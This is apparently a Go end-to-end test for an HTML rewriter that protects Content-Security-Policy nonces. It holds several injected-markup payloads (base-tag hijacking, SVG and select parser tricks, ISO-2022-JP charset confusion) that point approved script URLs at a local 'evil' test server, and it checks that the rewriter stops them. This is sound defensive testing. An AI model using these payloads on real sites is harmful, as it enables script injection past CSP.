package e2e

import (
	"fmt"
	"net/http"
	"net/http/httptest"
	"strconv"
	"strings"
	"testing"

	"github.com/edgecsp/edgecsp/core/rewrite"
)

// foreignCode answers for any script and style sheet with one that says whose it is.
func foreignCode(who string) http.HandlerFunc {
	return func(w http.ResponseWriter, r *http.Request) {
		if strings.HasSuffix(r.URL.Path, ".css") {
			w.Header().Set("Content-Type", "text/css")
			fmt.Fprintf(w, ":root{--%s:1}", who)
			return
		}
		w.Header().Set("Content-Type", "text/javascript")
		fmt.Fprintf(w, "document.documentElement.style.setProperty('--%s', 1)", who)
	}
}

// baseAttacks are pages whose injected markup turns approved URLs into another host's, EVIL.
func baseAttacks() []string {
	many := ""
	for i := range rewrite.MaxAttrs {
		many += " a" + strconv.Itoa(i)
	}
	const option = "<option selected><link rel=stylesheet href=/a.css><base href=EVIL/></option>"
	const hidden = "\x1b$B0!\x1b(B<script \x1b$B/src=\"/a.js\"a=\"a\x1b(B src=EVIL/a.js b=\x1b$B0\"0!\x1b(B></script><p>"
	return []string{
		"<base" + many + " href=EVIL/><script src=/a.js></script>",
		"<svg><font" + many + " size=1><base href=EVIL/></svg><script src=/a.js></script>",
		"<svg><script href=/a.js><foreignObject><base href=EVIL/></foreignObject></script></svg>",
		"<select><button><selectedcontent></selectedcontent></button>" + option + "</select>",
		"<select>" + option + "<button><selectedcontent></selectedcontent></button></select>",
		"<select><button><selectedcontent></selectedcontent></button><option selected><table><tr><td><input><link rel=stylesheet href=/a.css><base href=EVIL/></table></select>",
		"<svg><![CDATA[><meta charset=iso-2022-jp>]]></svg><meta charset=utf-8>" + hidden,
	}
}

// TestApprovedURLsStayTheirs lets Chromium load pages that turn approved URLs into another host's. Without the rewriter, and with a policy that
// admits all that carries the nonce, each attack works: so the test sees it.
func TestApprovedURLsStayTheirs(t *testing.T) {
	evil := httptest.NewServer(foreignCode("evil"))
	defer evil.Close()
	site := httptest.NewUnstartedServer(nil)
	approved, err := rewrite.NewApprovals([]string{"/a.js", "/a.css"})
	if err != nil {
		t.Fatal(err)
	}
	var pages []string
	site.Config.Handler = http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		n, err := strconv.Atoi(strings.TrimPrefix(r.URL.Path, "/page/"))
		if err != nil {
			foreignCode("good")(w, r)
			return
		}
		w.Header().Set("Content-Type", "text/html")
		w.Header().Set("Content-Security-Policy", "script-src 'nonce-"+rewriteNonce+"'; style-src 'nonce-"+rewriteNonce+"'")
		fmt.Fprint(w, pages[n])
	})
	site.Start()
	defer site.Close()
	o := &rewrite.Options{Trust: rewrite.Inventory, Scripts: true, Styles: true, Approved: approved}
	for _, page := range baseAttacks() {
		page = "<!doctype html>" + strings.ReplaceAll(page, "EVIL", evil.URL)
		all := strings.NewReplacer("<script ", "<script nonce="+rewriteNonce+" ", "<link ", "<link nonce="+rewriteNonce+" ").Replace(page)
		out, _ := rewriteWhole(o, rewrite.Page{Nonce: rewriteNonce, URL: site.URL + "/page/0"}, page)
		pages = append(pages, all, out)
	}
	b := newTab(t)
	const loaded = "getComputedStyle(document.documentElement).getPropertyValue('--evil') === '1'"
	for n := range pages {
		b.open(site.URL + "/page/" + strconv.Itoa(n))
		if n%2 == 0 {
			b.until(loaded)
			continue
		}
		js[bool](b, "setTimeout(() => window.waited = true, 200), true")
		b.until("window.waited === true")
		if js[bool](b, loaded) {
			t.Errorf("the other host's code runs in %q", pages[n])
		}
	}
}
